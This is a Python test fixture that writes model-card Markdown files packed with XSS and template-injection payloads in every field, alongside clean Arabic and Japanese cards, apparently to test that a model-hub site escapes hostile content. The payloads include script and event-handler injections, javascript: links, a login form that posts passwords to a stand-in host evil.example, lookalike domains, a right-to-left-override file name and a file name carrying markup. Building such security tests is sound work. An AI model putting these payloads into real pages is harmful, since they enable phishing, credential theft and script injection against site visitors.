"""Cards that mean harm in every field, and cards whose text runs the other way or without spaces."""

from __future__ import annotations

from pathlib import Path

#: What a page must never do. Each says where it stood, should it ever run.
PAYLOADS = (
    '<script>alert("script")</script>',
    '</title></style></textarea></noscript><script>alert("end")</script>',
    '"><img src=x onerror=alert("attribute")>',
    "'><svg/onload=alert('svg')>",
    "javascript:alert('scheme')",
    "{{ 7*7 }}{% for x in range(9) %}loop{% endfor %}{{ config }}${7*7}<%= 7*7 %>#{7*7}",
    "{% include_relative ../../secret %}{{ site.github }}",
    "--><script>alert('comment')</script><!--",
    "\u202egnp.exe\u2066\u200f\u2069",
)
ALL = " ".join(PAYLOADS)

_CARD = """\
---
layout: model
title: {title}
name: {name}
author: {all}
date: 2026-01-02
tags: [{all}, en]
task: [{task}, {all}]
language: {language}
edition: {all}
spark_version: {all}
supported: true
recommended: true
annotator: {all}
article_header:
  type: cover
use_language_switcher: {all}
---

{text}

## Description

{text}

{html}

## Predicted Entities

`<script>alert("label")</script>`, `B-{{{{ 7*7 }}}}`, `"><img src=x onerror=alert(1)>`, `O`

{{:.btn-box}}
[Live Demo](javascript:alert("demo")){{:.button.button-orange}}
[Open in Colab](data:text/html,<script>alert(1)</script>){{:.button.button-orange-trans.co.button-icon}}
[Download](//evil.example/x.zip" onclick="alert(1)){{:.button.button-orange onclick="alert(2)"}}
[Copy S3 URI](s3://models.example/"><script>alert(3)</script>.zip){{:.button.button-copy-s3}}
<button class="button" onclick="alert('button')">{text}</button>

## How to use

<div class="tabs-box" markdown="1" onmouseover="alert('tabs')">
{{% include programmingLanguageSelectScalaPythonNLU.html %}}
```python" onclick="alert(4)" {{7*7}} <script>alert("info")</script>
document = "</code></pre><script>alert('code')</script>"
data = spark.createDataFrame([["<script>alert('sample')</script>{{{{ 7*7 }}}}"]]).toDF("text")
```
```scala
val x = "</script><svg onload=alert('scala')>"
```

{{:.nlu-block}}
```python
nlu.load("<img src=x onerror=alert('nlu')>")
```
</div>

## Results

```bash
+--------------------------------+
|result                          |
+--------------------------------+
|<script>alert("result")</script>|
+--------------------------------+
```

{{:.model-param}}
## Model Information

{{:.table-model}}
|---|---|
|Model Name:|{text}|
|License:|{all}|
|Language:|<b onmouseover="alert(5)">en</b>|
|<script>alert("row")</script>|[x](javascript:alert(6))|

## Data Source <script>alert("heading")</script>

{html}

## References

- https://evil.example/"onmouseover="alert(7)
- [https://huggingface.co](https://xn--hugingface-pfc.example/) and https://hugg\u0456ngface.example/
- javascript:alert(8)
- <javascript:alert(9)>
- [a][b]

[b]: vbscript:alert(10) "title' onmouseover='alert(11)"

## Benchmarking

```bash
label                            precision recall f1-score support
<script>alert("bench")</script>  0.9       0.9    0.9      10
"><img/src=x/onerror=alert(12)>  0.9       0.9    0.9      10
```

| <script>alert("cell")</script> | {{{{ 7*7 }}}} |
|---|---|
| <b onmouseover="alert(13)">bold</b> | <img src="https://evil.example/pixel"> |
"""

_HTML = """\
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import url("https://evil.example/y.css"); body { display: none }</style>
<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(14)"><button>Log in</button></form>
<iframe src="https://evil.example/" srcdoc="<script>alert(15)</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<svg><animate onbegin="alert(16)" attributeName="x"></animate><use href="https://evil.example/#x"></use></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(17)></style></mglyph></table></mtext></math>
<video src="https://evil.example/x" onerror="alert(18)" autoplay></video><audio src="https://evil.example/x"></audio>
<a href=" &#106;avascript:alert(19)" target="_top" style="position:fixed;inset:0">everywhere</a>
<a href="java\tscript:alert(20)" id="__config" name="document$">a clobbered name</a>
<img name="currentScript" src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x" loading="eager">
<div id="__search" class="md-search__form" data-md-component="search">a part of the theme</div>
<details open ontoggle="alert(21)"><summary>x</summary></details><template><script>alert(22)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(23)>"></noscript>
<xmp><img src=x onerror=alert(24)></xmp><plaintext>

![pixel](https://evil.example/pixel.png "x" onerror="alert(25)") [x](javascript&colon;alert(26)) <https://ok.example/>
"""

_ARABIC = """\
---
layout: model
title: التعرف على الكيانات المسماة بالعربية
name: arabic_ar
author: فريق النماذج
date: 2026-01-02
tags: [ar, كيانات, open_source]
task: Named Entity Recognition
language: ar
edition: Spark NLP 5.5.0
annotator: BertForTokenClassification
---

## Description

هذا النموذج يتعرف على أسماء الأشخاص (Persons) والأماكن في النصوص العربية، وقد دُرِّب على `ANERcorp`.

## Predicted Entities

`شخص`, `مكان`

## How to use

```python
data = spark.createDataFrame([["وُلدت آدا في لندن."]]).toDF("text")
```

## References

- كتاب مرجعي، 2026
"""

_JAPANESE = """\
---
layout: model
title: 日本語の品詞タグ付けモデル
name: japanese_ja
author: 試験チーム
date: 2026-01-02
tags: [ja, 品詞]
task: Part of Speech Tagging
language: ja
edition: Spark NLP 5.5.0
annotator: BertForTokenClassification
---

## Description

このモデルは、日本語の文章に品詞のラベルを付けます。長い文でも改行位置が正しくなるように、空白のない文章がここに続きます。

## Predicted Entities

`名詞`, `動詞`

## How to use

```python
data = spark.createDataFrame([["吾輩は猫である。名前はまだ無い。"]]).toDF("text")
```
"""


def write_attacks(root: Path) -> Path:
    """A hub of hostile cards, one of them with a hostile file name, and of an Arabic and a Japanese card."""
    cards = root / "cards"
    cards.mkdir(parents=True)
    (root / "modelhub.toml").write_text("[site]\npage_size = 3\n", encoding="utf-8")
    for number, key in enumerate(["attack_en", "attack2_en", "a\"><img src=x onerror=alert('file')>&amp;_en"]):
        deep = "<div><b>" * 400 + "> " * 400 + "x"
        values = {
            "title": _quoted(PAYLOADS[0] + PAYLOADS[1]),
            "name": _quoted(PAYLOADS[number]),
            "all": _quoted(ALL),
            "task": "Text Classification",
            "language": _quoted(PAYLOADS[0]),
            "text": ALL,
            "html": _HTML + ("\n\n" + deep if number else ""),
        }
        text = _CARD.format(**values) + ("\nA NUL: \0.\n" if number == 1 else "")
        (cards / f"{key}.md").write_text(text, encoding="utf-8")
    (cards / "arabic_ar.md").write_text(_ARABIC, encoding="utf-8")
    (cards / "japanese_ja.md").write_text(_JAPANESE, encoding="utf-8")
    return root


def _quoted(text: str) -> str:
    """As a YAML string in single quotes."""
    return "'" + text.replace("'", "''") + "'"
